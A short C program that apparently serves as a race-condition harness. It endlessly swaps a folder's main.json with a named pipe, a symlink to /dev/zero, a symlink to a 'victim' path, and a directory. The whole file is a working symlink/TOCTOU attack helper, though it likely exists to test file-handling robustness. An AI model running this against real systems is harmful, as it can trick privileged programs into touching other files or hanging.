/*
 * swap FOLDER VICTIM: lets main.json of FOLDER be, in turn and as fast as it can, what it was, a pipe, a
 * link to /dev/zero, a link to VICTIM and a folder.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **argument) {
  if (count != 3 || chdir(argument[1]) != 0) return 1;
  if (mkfifo("pipe", 0666) != 0 || symlink("/dev/zero", "zero") != 0) return 1;
  if (symlink(argument[2], "victim") != 0 || mkdir("folder", 0777) != 0) return 1;
  const char *kinds[] = { "pipe", "zero", "victim", "folder" };
  for (int turn = 0;; turn++) {
    const char *kind = kinds[turn % 4];
    rename("main.json", "kept");
    rename(kind, "main.json");
    rename("main.json", kind);
    rename("kept", "main.json");
  }
}
